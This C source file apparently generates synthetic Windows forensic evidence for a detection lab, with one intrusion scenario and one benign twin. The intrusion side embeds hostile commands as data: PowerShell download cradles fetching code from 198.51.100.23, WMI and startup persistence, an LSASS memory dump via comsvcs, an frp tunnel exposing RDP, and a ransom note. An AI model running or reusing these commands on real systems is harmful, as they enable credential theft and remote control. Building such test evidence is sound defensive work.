/*
 * ways_files: what intruders leave in files of Windows and of their own programs, and the honest twins of all that.
 *
 * Safety   telling words have a '@' inside that is taken out when the evidence is written; no program, dump or database holds more than its head.
 * Source   ways back in, 1.8, 6.5 to 6.7, 7, 8 and 9.
 */
#include "lab/story.h"

#include "../../tests/make_minidump.h"
#include "../../tests/make_prefetch.h"
#include "../../tests/make_quarantine.h"

#include <string.h>

#define TIME_PLANTED "2021-03-03T04:20:00"
#define PROFILES "C/Users/administrator/"
#define DEFENDER "C/ProgramData/Microsoft/Windows Defender/"

static const char *plain(struct lab *l, const char *s)
{
    struct buf b = { 0 };

    for (; *s; s++)
        if (*s != '@')
            buf_chr(&b, *s);
    buf_chr(&b, 0);
    const char *kept = memcpy(pool_room(&l->keep, b.n), b.p, b.n);
    buf_free(&b);
    return kept;
}

static void put_text(struct lab *l, const char *path, const char *when, const char *text) { file_text(l, path, at(when), plain(l, text)); }

static void wide(struct buf *b, const char *s)
{
    for (; *s; s++) {
        buf_chr(b, *s);
        buf_chr(b, 0);
    }
}

static void put(struct lab *l, const char *path, const struct buf *b, const char *when)
{
    file_put(l, path, (struct str){ (const uint8_t *)b->p, b->n }, at(when));
}

/* Texts as the repository keeps them: a byte that says how they are encoded, the text, a zero. */
static void wmi_text(struct buf *b, const char *s)
{
    buf_chr(b, 0);
    buf_str(b, s);
    buf_chr(b, 0);
}

static void wmi_object(struct lab *l, struct buf *b, const char *cls, const char *const *text)
{
    static const char hash[] = "7A0D9B0F4F5C6E1B2D3C4A5968778695A4B3C2D1E0F1029384756A6B7C8D9EAF";
    char              times[16] = { 1, 2, 3 };

    wide(b, hash);
    buf_add(b, times, sizeof times);
    wmi_text(b, cls);
    for (; *text; text++)
        wmi_text(b, plain(l, *text));
    buf_add(b, "\0\0\0\0\0\0", 6);
}

static void wmi_subscription(struct lab *l, struct buf *b, const char *filter, const char *query, const char *cls, const char *name, const char *text, bool script)
{
    wmi_object(l, b, "__EventFilter", (const char *const[]){ "root\\cimv2", filter, query, "WQL", NULL });
    if (text)
        wmi_object(l, b, cls, script ? (const char *const[]){ name, "VBScript", text, NULL } : (const char *const[]){ text, name, NULL });
    wmi_object(l, b, "__FilterToConsumerBinding", (const char *const[]){ pool_fmt(&l->keep, "%s.Name=\"%s\"", cls, name), pool_fmt(&l->keep, "__EventFilter.Name=\"%s\"", filter), NULL });
}

static void bits_text(struct buf *b, const char *s)
{
    buf_chr(b, (char)(strlen(s) + 1));
    buf_add(b, "\0\0\0", 3);
    wide(b, s);
    buf_add(b, "\0", 2);
}

static void bits_file(struct buf *b, const char *local, const char *url)
{
    bits_text(b, local);
    bits_text(b, url);
    bits_text(b, "C:\\Windows\\Temp\\BIT4F21.tmp");
    buf_add(b, "\0\1\0\2\0\3\0\4\0\5\0\6", 12);
}

static void prefetch(struct lab *l, const char *path, const char *name, uint32_t count, const char *when, const char *file, bool packed)
{
    uint8_t     raw[MAKE_PREFETCH_MAX], small[2 * MAKE_PREFETCH_MAX];
    const char *list[] = { "\\VOLUME{01d6f0a1b2c3d4e5-8ac1f00d}\\WINDOWS\\SYSTEM32\\NTDLL.DLL", file, NULL };
    size_t      n = make_prefetch(raw, name, count, at(when), list);

    if (packed)
        n = make_packed(small, raw, n);
    file_put(l, path, (struct str){ packed ? small : raw, n }, at(when));
}

static void dump(struct lab *l, const char *path, const char *const *module, size_t wipe, const char *when)
{
    uint8_t raw[MAKE_MINIDUMP_MAX];

    file_put(l, path, (struct str){ raw, make_minidump(raw, module, (uint32_t)(at(when) / TIME_SECOND), wipe) }, at(when));
}

static void defender_log(struct lab *l, const char *text)
{
    struct buf b = { 0 };

    buf_add(&b, "\xff\xfe", 2);
    for (const char *p = plain(l, text); *p; p++) {
        if (*p == '\n')
            wide(&b, "\r");
        buf_chr(&b, *p);
        buf_chr(&b, 0);
    }
    put(l, DEFENDER "Support/MPLog-20210101-120000.log", &b, "2021-03-20T00:00:00");
    buf_free(&b);
}

/* A program of Go: a head, the names of its sections, and what it was built from. */
static void go_program(struct lab *l, const char *path, const char *build, const char *when)
{
    struct buf b = { 0 };

    buf_add(&b, "MZ\x90\0", 4);
    while (b.n < 0x180)
        buf_chr(&b, 0);
    buf_add(&b, ".text\0\0\0.rdata\0\0.data\0\0\0.idata\0\0.symtab\0", 40);
    while (b.n < 4096)
        buf_chr(&b, 0x11);
    buf_add(&b, "\x30\x77\xaf\x0c\x92\x74\x08\x02\x41\xe1\xc1\x07\xe6\xd6\x18\xe6", 16);
    buf_str(&b, build);
    buf_add(&b, "\xf9\x32\x43\x31\x86\x18\x20\x72\x00\x82\x42\x10\x41\x16\xd8\xf2", 16);
    put(l, path, &b, when);
    buf_free(&b);
}

/* The first page of a database, and of a hive that names itself. */
static void database(struct lab *l, const char *path, bool domain, const char *when)
{
    struct buf b = { 0 };

    buf_add(&b, "\x10\x20\x30\x40\xef\xcd\xab\x89\x20\x06\0\0", 12);
    while (b.n < 8192)
        buf_chr(&b, 0);
    if (domain)
        buf_add(&b, "datatable\0link_table\0sd_table\0hiddentable\0", 42);
    put(l, path, &b, when);
    buf_free(&b);
}

static void hive(struct lab *l, const char *path, const char *name, const char *when)
{
    struct buf b = { 0 };

    buf_add(&b, "regf\1\0\0\0\1\0\0\0", 12);
    while (b.n < 0x30)
        buf_chr(&b, 0);
    wide(&b, name);
    while (b.n < 4096)
        buf_chr(&b, 0);
    put(l, path, &b, when);
    buf_free(&b);
}

static const char *const of_lsass[] = { "C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\System32\\ntdll.dll", "C:\\Windows\\System32\\lsasrv.dll", NULL };
static const char *const of_w3wp[]  = { "C:\\Windows\\System32\\inetsrv\\w3wp.exe", "C:\\Windows\\System32\\ntdll.dll", NULL };

/* `name` NULL: a program of nobody. */
static void program(struct lab *l, const char *path, const char *name, const char *text, const char *when)
{
    struct buf b = { 0 };

    if (name)
        pe_versioned(&b, "10.0.14393.1", name, text);
    else
        pe_strings(&b, &text, 1);
    put(l, path, &b, when);
    buf_free(&b);
}

#define POLICY "C/ProgramData/Microsoft/Group Policy/History/{31B2F340-016D-11D2-945F-00C04FB984F9}/Machine/Preferences/ScheduledTasks/ScheduledTasks.xml"
static void policy_task(struct lab *l, const char *name, const char *command, const char *arguments, const char *when)
{
    put_text(l, POLICY, when, pool_fmt(&l->keep, "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<ScheduledTasks clsid=\"{CC63F200-7309-4ba0-B154-A71CD118DBCC}\"><ImmediateTaskV2 name=\"%s\"><Properties action=\"C\" name=\"%s\" "
        "runAs=\"NT AUTHORITY\\System\"><Task version=\"1.3\"><Actions Context=\"Author\"><Exec><Command>%s</Command><Arguments>%s</Arguments></Exec></Actions></Task></Properties></ImmediateTaskV2></ScheduledTasks>\n",
        name, name, command, arguments));
}

void tell_ways_files(struct lab *l)
{
    const char *gone = web(l, "aspnet_client/cellar.aspx");
    uint8_t     raw[MAKE_QUARANTINE_MAX];
    struct buf  b = { 0 };

    intrude(l, &someone, "2021-03-03T02:10:30");

    /* What was typed, and what runs whenever PowerShell starts. */
    put_text(l, PROFILES "AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", TIME_PLANTED,
             "whoami\nI@EX (New-Object Net.Web@Client).Download@String('http://198.51.100.23/a')\nrund@ll32 C:\\Windows\\System32\\com@svcs.dll, Mini@Dump 612 C:\\ProgramData\\x.dat full\nAdd-PSSnapin *exchange*\nexit\n");
    put_text(l, "C/Windows/System32/WindowsPowerShell/v1.0/profile.ps1", TIME_PLANTED, "I@EX (New-Object Net.Web@Client).Download@String('http://198.51.100.23/b')\n");

    /* Subscriptions among Windows' own. */
    while (b.n < 8192)
        buf_chr(&b, 0x20);
    wmi_subscription(l, &b, "SCM Event Log Filter", "select * from MSFT_SCMEventLogEvent", "NTEventLogEventConsumer", "SCM Event Log Consumer", NULL, false);
    wmi_subscription(l, &b, "WinUpdateFilter", "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'", "CommandLineEventConsumer",
                     "WinUpdateConsumer", "powers@hell.exe -nop -w hidden -c I@EX (New-Object Net.Web@Client).Download@String('http://198.51.100.23/c')", false);
    put(l, "C/Windows/System32/wbem/Repository/OBJECTS.DATA", &b, "2021-03-20T00:00:00");
    buf_free(&b);

    /* A transfer that starts a program, among those of Windows Update. */
    bits_text(&b, "Windows Update Job");
    bits_text(&b, "fetches updates");
    bits_text(&b, "C:\\ProgramData\\update.exe");
    bits_text(&b, "C:\\ProgramData\\update.exe -s");
    bits_text(&b, "S-1-5-18");
    bits_file(&b, "C:\\Windows\\SoftwareDistribution\\Download\\a.cab", "http://download.windowsupdate.com/d/a.cab");
    put(l, "C/ProgramData/Microsoft/Network/Downloader/qmgr0.dat", &b, "2021-03-20T00:00:00");
    buf_free(&b);

    prefetch(l, "C/Windows/Prefetch/PROCDUMP64.EXE-4A81B364.pf", "PROCDUMP64.EXE", 2, "2021-03-03T04:22:00", "\\VOLUME{01d6f0a1b2c3d4e5-8ac1f00d}\\PERFLOGS\\PROCDUMP64.EXE", true);

    /* Defender took the page away; its log, its history and its quarantine say so. */
    defender_log(l, "2021-03-09T01:00:00.000Z Service started\n"
                    "2021-03-09T01:10:00.000Z DETECTION_ADD#1 Back@door:ASP/Chopper.F!dha file:C:\\inetpub\\wwwroot\\aspnet_client\\cellar.aspx PropBag [length: 0, data: (null)]\n"
                    "2021-03-09T01:10:05.000Z DETECTION_CLEANEVENT MPSOURCE_SYSTEM MP_THREAT_ACTION_QUARANTINE 0x00000000 Back@door:ASP/Chopper.F!dha file:C:\\inetpub\\wwwroot\\aspnet_client\\cellar.aspx;\n");
    file_put(l, DEFENDER "Quarantine/Entries/{80062A2A-0000-0000-9F1F-1C2B3A495867}",
             (struct str){ raw, make_quarantine(raw, plain(l, "Back@door:ASP/Chopper.F!dha"), win_path(l, gone), at("2021-03-09T01:10:05")) }, at("2021-03-09T01:10:05"));
    file_put(l, DEFENDER "Scans/History/Service/DetectionHistory/03/9A3F8C11-2B4D-4E6F-8A90-1B2C3D4E5F60",
             (struct str){ raw, make_history(raw, plain(l, "Back@door:ASP/Chopper.F!dha"), win_path(l, gone)) }, at("2021-03-09T01:10:05"));

    /* Passwords: a dump whose head was wiped, the database of the domain under another name, a hive. */
    dump(l, "C/ProgramData/x.dat", of_lsass, 8, TIME_PLANTED);
    database(l, "C/Windows/Temp/nt.tmp", true, TIME_PLANTED);
    hive(l, "C/PerfLogs/s.bin", "\\SystemRoot\\System32\\Config\\SAM", TIME_PLANTED);

    /* Ways through the firewall. */
    go_program(l, "C/ProgramData/svchost.exe", "path\tgithub.com/fatedier/frp/cmd/frpc\nmod\tgithub.com/fatedier/frp\tv0.36.2\t\n", TIME_PLANTED);
    put_text(l, "C/Users/Public/frpc.ini", TIME_PLANTED, "[common]\nserver_addr = 198.51.100.23\nserver_port = 7000\n[r]\ntype = tcp\nlocal_port = 3389\nremote_port = 6000\n");
    put_text(l, "C/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/sync.bat", TIME_PLANTED, "powers@hell -nop -w hidden -c I@EX (New-Object Net.Web@Client).Download@String('http://198.51.100.23/d')\n");
    put_text(l, "C/!read_me.txt", TIME_PLANTED, "All your files were encrypted. Pay in bitcoin. Your personal ID: 17. Reach us with the Tor Browser.\n");

    /* In the place of others, and by policy. */
    program(l, "C/Windows/System32/sethc.exe", NULL, "tea", TIME_PLANTED);
    program(l, pool_fmt(&l->keep, "%s/Bin/version.dll", l->at.install), NULL, "milk", TIME_PLANTED);
    policy_task(l, "Brew", "C:\\Users\\Public\\brew.exe", "-k", TIME_PLANTED);

    all_covered(l);
    entered(l, 1);
    door(l, "present", false, false);
    truth_drop(l, "use.covered");
    truth_text(l, "theft.state", "none_seen");
    truth_door_use(l, truth_door(l, win_path(l, gone), "removed", "not_seen_used"), NULL, 0, NULL, 0);
    static const char *const ways[] = { "ConsoleHost_history.txt", "profile.ps1", "WinUpdateConsumer", "Windows Update Job", "x.dat", "nt.tmp", "s.bin", "frp", "sync.bat", "sethc.exe", "version.dll", "Brew" };
    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++)
        truth_list(l, "ways_back", ways[i]);
    truth_list(l, "intruder_clients", someone.client);
}

void tell_ways_files_benign(struct lab *l)
{
    struct buf b = { 0 };

    put_text(l, PROFILES "AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", "2021-03-18T08:00:00",
             "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn\nGet-MailboxDatabase -Status | ft Name,DatabaseSize\nGet-OabVirtualDirectory | fl *url*\nSet-OwaVirtualDirectory -Identity 'owa (Default Web Site)' -ExternalUrl "
             "https://mail.bakery.example/owa\nNew-MailboxExportRequest -Mailbox mara -FilePath \\\\files01\\pst\\mara.pst\nRestart-Service W3SVC\niisreset\nGet-HotFix | sort InstalledOn\nInvoke-WebRequest "
             "https://download.microsoft.com/x/Exchange2016-KB5000871.msp -OutFile C:\\install\\kb5000871.msp\n.\\Setup.exe /PrepareAD `\n /IAcceptExchangeServerLicenseTerms\n");
    put_text(l, "C/Windows/System32/WindowsPowerShell/v1.0/profile.ps1", "2020-06-01T08:00:00", "Set-Location C:\\Scripts\nImport-Module ActiveDirectory\nfunction prompt { \"$env:COMPUTERNAME> \" }\n");

    while (b.n < 8192)
        buf_chr(&b, 0x20);
    wmi_subscription(l, &b, "SCM Event Log Filter", "select * from MSFT_SCMEventLogEvent", "NTEventLogEventConsumer", "SCM Event Log Consumer", NULL, false);
    wmi_subscription(l, &b, "BVTFilter", "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \"Win32_Processor\" AND TargetInstance.LoadPercentage > 99", "CommandLineEventConsumer",
                     "BVTConsumer", "cscript KernCap.vbs", false);
    wmi_subscription(l, &b, "DiskAlertFilter", "SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA 'Win32_LogicalDisk'", "CommandLineEventConsumer", "DiskAlert",
                     "\"C:\\Program Files\\Vendor Monitor\\alert.exe\" -disk", false);
    put(l, "C/Windows/System32/wbem/Repository/OBJECTS.DATA", &b, "2021-03-20T00:00:00");
    buf_free(&b);

    bits_text(&b, "Font Download");
    bits_text(&b, "S-1-5-19");
    bits_file(&b, "C:\\Windows\\SoftwareDistribution\\Download\\a.cab", "http://download.windowsupdate.com/d/a.cab");
    bits_file(&b, "C:\\Windows\\ccmcache\\7\\setup.exe", "http://sccm01.bakery.example:80/SMS_DP_SMSPKG$/pkg/setup.exe");
    bits_file(&b, "C:\\Program Files\\Google\\Update\\Download\\chrome.exe", "http://r4---sn.gvt1.com/edgedl/chrome.exe");
    put(l, "C/ProgramData/Microsoft/Network/Downloader/qmgr0.dat", &b, "2021-03-20T00:00:00");
    buf_free(&b);

    prefetch(l, "C/Windows/Prefetch/W3WP.EXE-11223344.pf", "W3WP.EXE", 40, "2021-03-19T04:22:00", "\\VOLUME{01d6f0a1b2c3d4e5-8ac1f00d}\\WINDOWS\\SYSTEM32\\INETSRV\\W3WP.EXE", false);
    defender_log(l, "2021-03-09T01:00:00.000Z Service started\n"
                    "2021-03-09T01:10:00.000Z DETECTION_ADD#1 Virus:DOS/EI@CAR_Test_File file:C:\\Users\\administrator\\Desktop\\test.txt PropBag [length: 0, data: (null)]\n"
                    "2021-03-09T02:10:00.000Z DETECTION_ADD#1 TrojanDownloader:O97M/Emotet.A!MTB file:C:\\Program Files\\Microsoft\\Exchange Server\\V15\\TransportRoles\\data\\Temp\\invoice.doc PropBag [length: 0]\n"
                    "2021-03-09T03:10:00.000Z Engine:command line reported as lowfi: C:\\Windows\\System32\\ipconfig.exe(ipconfig /all)\n");

    /* A crash of another program, the system's own copies, a backup. */
    dump(l, "C/ProgramData/Microsoft/Windows/WER/ReportQueue/AppCrash_w3wp/memory.dmp", of_w3wp, 0, "2021-03-10T00:00:00");
    dump(l, "C/Windows/Minidump/031021-7.dmp", of_w3wp, 0, "2021-03-10T00:00:00");
    database(l, "C/Windows/System32/ntds.dit", true, "2020-06-01T08:00:00");
    database(l, "C/Windows/Temp/edb.tmp", false, "2021-03-10T00:00:00");
    hive(l, "C/Windows/System32/config/RegBack/SAM", "\\SystemRoot\\System32\\Config\\SAM", "2021-03-10T00:00:00");

    go_program(l, "C/Program Files/cloudflared/cloudflared.exe", "path\tgithub.com/cloudflare/cloudflared/cmd/cloudflared\nmod\tgithub.com/cloudflare/cloudflared\tv0.0.0\t\n", "2020-06-01T08:00:00");
    put_text(l, "C/ProgramData/AnyDesk/connection_trace.txt", "2021-03-10T00:00:00", "Incoming    2021-02-10, 09:12    User                                123456789    123456789\n");
    put_text(l, "C/ProgramData/ssh/administrators_authorized_keys", "2020-06-01T08:00:00", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIexample mara@desk7\n");
    put_text(l, "C/Windows/System32/drivers/etc/hosts", "2020-06-01T08:00:00", "# hosts\n127.0.0.1 localhost\n10.20.0.9 exch02.bakery.example exch02\n");
    put_text(l, PROFILES "AppData/Roaming/rclone/rclone.conf", "2020-06-01T08:00:00", "[backup]\ntype = s3\nprovider = Other\n");
    put_text(l, "C/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/desktop.ini", "2020-06-01T08:00:00", "[.ShellClassInfo]\n");
    put_text(l, "C/read_me.txt", "2020-06-01T08:00:00", "Backups are encrypted. The payment of the licence is due in May.\n");
    program(l, "C/Windows/System32/cmd.exe", "Cmd.Exe", "Windows Command Processor", "2020-06-01T08:00:00");
    program(l, "C/Windows/System32/sethc.exe", "SETHC.EXE", "Accessibility shortcut keys", "2020-06-01T08:00:00");
    program(l, "C/Windows/System32/version.dll", "VERSION.DLL", "Version Checking and File Installation Libraries", "2020-06-01T08:00:00");
    program(l, "C/Windows/System32/oci.dll", "oci.dll", "Oracle Call Interface", "2020-06-01T08:00:00");
    policy_task(l, "Inventory", "\\\\bakery.example\\netlogon\\inventory.exe", "/s", "2020-06-01T08:00:00");
    all_covered(l);
}
